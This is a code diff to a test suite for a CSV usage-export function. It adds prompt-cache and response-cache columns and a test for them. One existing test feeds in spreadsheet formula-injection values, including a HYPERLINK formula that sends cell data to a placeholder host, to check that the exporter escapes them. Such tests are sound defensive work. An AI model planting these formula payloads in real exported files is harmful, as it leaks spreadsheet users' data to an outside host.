@@ -32,8 +32,8 @@ describe('usageCsv', () => {
       promptTokens: 12, completionTokens: 3, costUsd: 0.0001, latencyMs: 41.6, createdAt: Date.UTC(2025, 0, 10, 12),
     };
     expect(usageCsv([record]).split('\r\n')).toEqual([
-      'time,request_id,key_id,endpoint,model,deployment,status,outcome,prompt_tokens,completion_tokens,cost_usd,latency_ms',
-      '2025-01-10T12:00:00.000Z,"req,""1""",key_1,chat,gpt-test,openai/gpt-4.1-mini,200,completed,12,3,0.0001,42',
+      'time,request_id,key_id,endpoint,model,deployment,status,outcome,prompt_tokens,completion_tokens,cache_read_tokens,cache_write_tokens,cache_write_1h_tokens,response_cache_hit,cost_usd,latency_ms',
+      '2025-01-10T12:00:00.000Z,"req,""1""",key_1,chat,gpt-test,openai/gpt-4.1-mini,200,completed,12,3,0,0,0,0,0.0001,42',
       '',
     ]);
   });
@@ -43,6 +43,14 @@ describe('usageCsv', () => {
       requestId: '-2+3', keyId: 'key_1', model: '=HYPERLINK("http://x.example/?"&A1,"ok")', deployment: '@SUM(A1)', endpoint: 'chat', status: 200, outcome: 'completed',
       promptTokens: 12, completionTokens: 3, costUsd: 0.5, latencyMs: 2, createdAt: Date.UTC(2025, 0, 10, 12),
     };
-    expect(usageCsv([record]).split('\r\n')[1]).toBe(`2025-01-10T12:00:00.000Z,'-2+3,key_1,chat,"'=HYPERLINK(""http://x.example/?""&A1,""ok"")",'@SUM(A1),200,completed,12,3,0.5,2`);
+    expect(usageCsv([record]).split('\r\n')[1]).toBe(`2025-01-10T12:00:00.000Z,'-2+3,key_1,chat,"'=HYPERLINK(""http://x.example/?""&A1,""ok"")",'@SUM(A1),200,completed,12,3,0,0,0,0,0.5,2`);
+  });
+
+  it('writes the prompt-cache reads and writes and the response-cache hits', () => {
+    const record: UsageCsvRecord = {
+      requestId: 'r', keyId: 'key_1', model: 'claude', deployment: 'anthropic/claude-sonnet-4-5', endpoint: 'responses', status: 200, outcome: 'completed',
+      promptTokens: 1_500, completionTokens: 3, cachedTokens: 1_200, cacheWriteTokens: 250, cacheWrite1hTokens: 250, cacheHit: true, costUsd: 0, latencyMs: 2, createdAt: Date.UTC(2025, 0, 10, 12),
+    };
+    expect(usageCsv([record]).split('\r\n')[1]).toBe('2025-01-10T12:00:00.000Z,r,key_1,responses,claude,anthropic/claude-sonnet-4-5,200,completed,1500,3,1200,250,250,1,0,2');
   });
 });
